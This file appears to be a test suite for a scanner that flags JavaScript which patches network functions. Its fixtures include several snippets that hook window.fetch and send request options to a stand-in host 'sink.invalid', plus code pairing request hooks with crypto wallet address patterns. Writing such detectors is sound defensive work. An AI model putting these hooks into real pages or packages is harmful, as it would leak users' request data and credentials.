import { examine } from '../../../test/examine.ts';
import { patchesNetwork } from './patches-network.ts';

const CHAINS = `const chains = { ethereum: /\\b0x[a-fA-F0-9]{40}\\b/, bitcoin: /\\b1[a-km-zA-HJ-NP-Z1-9]{25,34}\\b/, tron: /\\bT[1-9A-HJ-NP-Za-km-z]{33}\\b/ };`;

examine(patchesNetwork, {
  speaks: [
    {
      when: 'what is given to a replaced function is sent elsewhere',
      files: {
        'index.js': `const f = window.fetch;
window.fetch = (u, o) => { navigator.sendBeacon('https://sink.invalid/', JSON.stringify(o)); return f(u, o); };`,
      },
    },
    {
      when: 'it is replaced by a definition',
      files: {
        'index.js': `const f = window.fetch;
Object.defineProperty(window, 'fetch', { value: (u, o) => { navigator.sendBeacon('https://sink.invalid/', JSON.stringify(o)); return f(u, o); } });`,
      },
    },
    {
      when: 'it is replaced by reflection',
      files: {
        'index.js': `const f = globalThis.fetch;
Reflect.set(globalThis, 'fetch', (u, o) => { navigator.sendBeacon('https://sink.invalid/', JSON.stringify(o)); return f(u, o); });`,
      },
    },
    {
      when: 'it is replaced with others at once',
      files: {
        'index.js': `const f = window.fetch;
Object.assign(window, { fetch: (u, o) => { navigator.sendBeacon('https://sink.invalid/', JSON.stringify(o)); return f(u, o); } });`,
      },
    },
    {
      when: 'requests are wrapped beside patterns of three chains',
      files: {
        'index.js': `${CHAINS} const send = XMLHttpRequest.prototype.send; XMLHttpRequest.prototype.send = function (b) { return send.call(this, b) }`,
      },
      weight: 'proof',
      says: ['Ethereum', 'Tron'],
    },
    {
      when: 'a wallet’s request is replaced',
      files: { 'index.js': `const real = window.ethereum.request; window.ethereum.request = args => real(args)` },
      weight: 'strong',
      says: ['ethereum.request'],
    },
    {
      when: 'a library for tracing wraps fetch',
      files: { 'index.js': `const real = globalThis.fetch; globalThis.fetch = (...a) => real(...a)` },
      weight: 'weak',
    },
    { when: 'http is wrapped', files: { 'index.js': `const https = require('https'); https.request = function () {}` }, weight: 'weak' },
  ],
  silent: [
    {
      when: 'an object of its own gets a member of that name',
      files: {
        'index.js': `const client = {}; Object.defineProperty(client, 'fetch', { value: (u, o) => navigator.sendBeacon('https://feed.invalid/', o) }); module.exports = client;`,
      },
    },
    { when: 'a mock is set when called', files: { 'index.js': `exports.mock = () => { globalThis.fetch = () => {} }` } },
    {
      when: 'an object of its own has such a member',
      files: { 'index.js': `const client = {}; client.fetch = () => {}; module.exports = client` },
    },
    { when: 'chains are only known', files: { 'index.js': `${CHAINS} module.exports = chains; fetch('https://api.invalid/')` } },
  ],
});
